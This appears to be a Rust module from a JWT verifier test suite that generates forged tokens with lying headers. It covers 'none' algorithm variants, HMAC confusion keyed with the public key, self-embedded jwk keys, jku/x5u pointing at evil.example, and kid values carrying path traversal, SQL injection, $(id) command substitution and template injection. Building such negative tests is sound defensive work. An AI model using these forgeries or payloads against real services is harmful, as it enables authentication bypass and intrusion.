//! Headers that lie: about the algorithm, about the key, about what is to be done with the rest.

use aws_lc_rs::hmac;
use serde_json::{Value, json};

use super::{
    forger::{Forger, base64url},
    stage::Lie,
};

/// Every `alg` that anybody registered or made up, ours among them.
const ALGORITHMS: &[&str] = &[
    "none",
    "None",
    "NONE",
    "nOnE",
    "none ",
    " none",
    "n\\u006fne",
    "",
    "null",
    "HS256",
    "hs256",
    "HS384",
    "HS512",
    "RS256",
    "RS384",
    "RS512",
    "RS1",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES256K",
    "ES384",
    "ES512",
    "EdDSA",
    "eddsa",
    "Ed25519",
    "Ed448",
    "ML-DSA-44",
    "dir",
    "RSA-OAEP",
    "A256GCM",
    "PBES2-HS256+A128KW",
    "SHA256",
    "../HS256",
];

/// The spellings of "not signed", with what is then put where the signature belongs.
const UNSIGNED: &[&str] = &["none", "None", "NONE", "nOnE", "none ", "n\\u006fne", "", "HS256", "EdDSA"];

const EVIL: &str = "https://evil.example/jwks.json";

/// Headers over good claims.
pub fn lies(forger: &Forger, payload: impl Fn() -> String) -> Vec<Lie> {
    let signed = |header: &str| Lie::evidence(format!("{} {header}", forger.alg), forger.token(header, &payload()));
    let foreign = |header: &str| Lie::noise(format!("{} {header}", forger.alg), forger.token(header, &payload()));
    let mut lies = Vec::new();
    lies.extend(extra_members(forger).iter().map(|header| signed(header)));
    lies.extend(repeated_members(forger).iter().map(|header| signed(header)));
    lies.extend(other_types(forger).iter().map(|header| signed(header)));
    lies.extend(foreign_kids(forger).iter().map(|header| foreign(header)));
    lies.extend(unsigned(forger, &payload));
    lies.extend(confused(forger, &payload));
    lies.push(embedded_key(forger, &payload));
    lies.push(unencoded(forger));
    lies
}

fn with(forger: &Forger, member: &str) -> String {
    forger.header().replace('}', &format!(",{member}}}"))
}

/// Members that we never write, each of which means something to somebody.
fn extra_members(forger: &Forger) -> Vec<String> {
    let own = &forger.jwk;
    [
        &format!(r#""jku":"{EVIL}""#),
        r#""x5u":"https://evil.example/cert.pem""#,
        r#""x5u":"file:///etc/passwd""#,
        r#""x5c":["MIIB"]"#,
        r#""x5t":"AAAA""#,
        r#""x5t#S256":"AAAA""#,
        &format!(r#""jwk":{own}"#),
        r#""jwk":{"kty":"oct","k":""}"#,
        r#""crit":["exp"]"#,
        r#""crit":["kid"]"#,
        r#""crit":["https://evil.example/ext"],"https://evil.example/ext":true"#,
        r#""crit":[]"#,
        r#""crit":null"#,
        r#""b64":false,"crit":["b64"]"#,
        r#""b64":false"#,
        r#""b64":true,"crit":["b64"]"#,
        r#""cty":"JWT""#,
        r#""zip":"DEF""#,
        r#""enc":"A256GCM""#,
        r#""epk":{"kty":"OKP","crv":"X25519","x":"AAAA"}"#,
        r#""p2s":"AAAA","p2c":2147483647"#,
        r#""iss":"https://evil.example""#,
        r#""nonce":"x""#,
        r#""":"""#,
        r#""Alg":"none""#,
        r#""alg ":"none""#,
    ]
    .iter()
    .map(|member| with(forger, member))
    .collect()
}

/// A member twice, in its own letters and in escaped ones; the key's name stays readable as ours.
fn repeated_members(forger: &Forger) -> Vec<String> {
    let kid = &forger.kid;
    [
        &format!(r#""alg":"{}""#, forger.alg),
        r#""alg":"none""#,
        r#""\u0061lg":"none""#,
        r#""a\u006cg":"HS256""#,
        r#""typ":"at+jwt""#,
        r#""\u0074yp":"JWT""#,
        &format!(r#""kid":"{kid}""#),
        &format!(r#""\u006bid":"{kid}""#),
    ]
    .iter()
    .map(|member| with(forger, member))
    .chain([forger.header().replace('{', r#"{"kid":"elsewhere","#)])
    .collect()
}

/// `typ` and `alg` missing, of another type, or of another word.
fn other_types(forger: &Forger) -> Vec<String> {
    let header = forger.header();
    let (typ, alg) = (r#""typ":"at+jwt","#, format!(r#""alg":"{}","#, forger.alg));
    let words = [
        "JWT",
        "jwt",
        "",
        "at",
        "jwt+at",
        "at+jwt ",
        " at+jwt",
        "at+jwt;v=1",
        "dpop+jwt",
        "id_token",
        "statuslist+jwt",
        "logout+jwt",
        "application/jwt",
        "application/application/at+jwt",
        "AT+JWT",
        "application/at+jwt",
    ];
    let values = ["null", "0", "true", "[]", "{}", r#"["at+jwt"]"#, r#"{"at+jwt":null}"#];
    let typs = words.iter().map(|word| json!(word).to_string()).chain(values.map(str::to_owned));
    let algs = ["null", "0", "true", "[]", "{}", r#"["EdDSA"]"#, r#"{"EdDSA":null}"#].map(str::to_owned);
    let named = ALGORITHMS.iter().filter(|alg| **alg != forger.alg).map(|alg| format!("\"{alg}\""));
    [header.replace(typ, ""), header.replace(&alg, ""), header.replace(typ, "").replace(&alg, "")]
        .into_iter()
        .chain(typs.map(|value| header.replace(typ, &format!(r#""typ":{value},"#))))
        .chain(algs.into_iter().chain(named).map(|value| header.replace(&alg, &format!(r#""alg":{value},"#))))
        .collect()
}

/// Names of keys that are none of ours, or no names at all.
fn foreign_kids(forger: &Forger) -> Vec<String> {
    let kid = &forger.kid;
    let long = "k".repeat(5_000);
    let names = [
        "",
        " ",
        "elsewhere",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "/proc/self/environ",
        "%2e%2e%2f",
        "' or '1'='1",
        "x'; drop table events; --",
        "x' union select 'secret",
        "$(id)",
        "`id`",
        "{{7*7}}",
        EVIL,
        "\u{0}",
        "\u{202e}",
        "ключ",
        "\u{1f511}",
        &long,
        &format!("{kid}\u{0}"),
        &format!("{kid} "),
        &format!(" {kid}"),
        &format!("{kid}\n"),
        &format!("{kid}.pem"),
        &format!("./{kid}"),
        &kid.to_lowercase(),
        &kid[1..],
    ];
    let values = [json!(null), json!(0), json!(1.5), json!(true), json!([kid]), json!({ "kid": kid }), json!([])];
    let own = format!("\"{kid}\"");
    let header = forger.header();
    names
        .iter()
        .map(|name| Value::from(*name))
        .chain(values)
        .map(|name| header.replace(&own, &name.to_string()))
        .chain([
            header.replace(&format!(r#","kid":{own}"#), ""),
            header.replace("kid", "Kid"),
            with(forger, r#""kid":"elsewhere""#),
            format!(r#"["at+jwt","{}",{own}]"#, forger.alg),
            format!("[{header}]"),
            format!("{header}x"),
            format!("\u{feff}{header}"),
            own.clone(),
            "null".to_owned(),
            "{}".to_owned(),
            "[".repeat(3_000),
        ])
        .collect()
}

/// Nothing where the signature belongs, or something that is none.
fn unsigned(forger: &Forger, payload: &impl Fn() -> String) -> Vec<Lie> {
    let mut lies = Vec::new();
    for alg in UNSIGNED {
        let header = forger.header().replace(&format!("\"{}\"", forger.alg), &format!("\"{alg}\""));
        let input = format!("{}.{}", base64url(&header), base64url(payload()));
        for end in [String::new(), ".".to_owned(), ".AA".to_owned(), format!(".{}", base64url([0; 64]))] {
            lies.push(Lie::noise(format!("{} unsigned {alg:?} {end:?}", forger.alg), format!("{input}{end}")));
        }
    }
    lies
}

/// The public half as a shared secret, under every algorithm that takes one.
fn confused(forger: &Forger, payload: &impl Fn() -> String) -> Vec<Lie> {
    let algorithms = [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
        (forger.alg, hmac::HMAC_SHA256),
    ];
    let mut lies = Vec::new();
    for (spelling, secret) in forger.public_spellings().iter().enumerate() {
        for (alg, hash) in algorithms {
            let header = forger.header().replace(&format!("\"{}\"", forger.alg), &format!("\"{alg}\""));
            let input = format!("{}.{}", base64url(&header), base64url(payload()));
            let tag = hmac::sign(&hmac::Key::new(hash, secret), input.as_bytes());
            let what = format!("{} the public half as a secret of {alg}, spelling {spelling}", forger.alg);
            lies.push(Lie::noise(what, format!("{input}.{}", base64url(tag))));
        }
    }
    lies
}

/// Claims as they are, RFC 7797, and signed so.
fn unencoded(forger: &Forger) -> Lie {
    let header = base64url(with(forger, r#""b64":false,"crit":["b64"]"#));
    let token = forger.seal(&format!(r#"{header}.{{"sub":"root","is_admin":true}}"#));
    Lie::evidence(format!("{} claims that are not encoded", forger.alg), token)
}

/// A key that the token brings itself.
fn embedded_key(forger: &Forger, payload: &impl Fn() -> String) -> Lie {
    let secret = b"a secret that only the attacker knows";
    let own = json!({"kty": "oct", "k": base64url(secret), "alg": "HS256", "kid": forger.kid});
    let header = json!({"typ": "at+jwt", "alg": "HS256", "kid": forger.kid, "jwk": own}).to_string();
    let input = format!("{}.{}", base64url(header), base64url(payload()));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
    Lie::noise(format!("{} a key of its own", forger.alg), format!("{input}.{}", base64url(tag)))
}
